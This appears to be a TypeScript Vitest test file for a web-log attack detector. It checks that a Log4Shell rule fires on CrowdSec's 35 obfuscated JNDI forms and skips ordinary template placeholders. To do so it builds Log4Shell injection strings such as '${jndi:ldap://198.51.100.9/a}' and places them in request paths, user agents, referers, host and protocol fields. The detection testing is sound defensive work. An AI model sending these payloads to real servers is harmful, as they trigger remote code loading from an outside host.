import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';

import { loadRules } from '../../src/detect/load-rules.ts';
import { detectActor } from '../../src/detect/detect-actor.ts';
import { hit } from './make-hit.ts';

// Every Log4Shell form CrowdSec's scenario knows (crowdsecurity/sec-lists log4j2_cve_2021_44228.txt,
// MIT, read from ../shared) must fire the log4shell rule in the path, the user agent and the referer,
// completed the way real payloads are ("…ldap://198.51.100.9/a}").
const LIST = fileURLToPath(new URL('../../../shared/corpus/crowdsec/data/log4j2_cve_2021_44228.txt', import.meta.url));
const present = existsSync(LIST);
if (!present) console.warn('../shared/corpus/crowdsec not found: the CrowdSec Log4Shell list check is skipped');

const log4shell = loadRules().filter((r) => r.id === 'log4shell');
const fires = (h: Parameters<typeof hit>[0]) => detectActor([hit(h)], log4shell).length === 1;

describe.skipIf(!present)("CrowdSec's Log4Shell forms", () => {
  const forms = present ? readFileSync(LIST, 'utf8').split('\n').map((l) => l.trim()).filter(Boolean) : [];
  it('the list has its 35 forms', () => {
    expect(forms.length).toBe(35);
  });
  it.each(forms.map((f) => [f]))('%s', (form) => {
    // the list has prefixes such as "${${::-j}ndi": a real payload goes on with ":ldap://…"
    const payload = /:$/.test(form) ? `${form}ldap://198.51.100.9/a}` : `${form}:ldap://198.51.100.9/a}`;
    expect(fires({ target: `/?q=${payload}` }), 'query').toBe(true);
    expect(fires({ ua: payload }), 'user agent').toBe(true);
    expect(fires({ referer: payload }), 'referer').toBe(true);
  });
});

describe('log4shell: not a template placeholder', () => {
  it.each([['/?q=${query}'], ['/p/${id}/edit'], ['/x?a=${b}&c=${d:e}']])('%s does not fire', (target) => {
    expect(fires({ target })).toBe(false);
  });
  it.each([['host', { host: '${jndi:ldap://198.51.100.9/a}' }], ['protocol', { protocol: 'HTTP/1.1${jndi:ldap://x/a}' }]])('fires in the %s field', (_f, h) => {
    expect(fires(h)).toBe(true);
  });
});
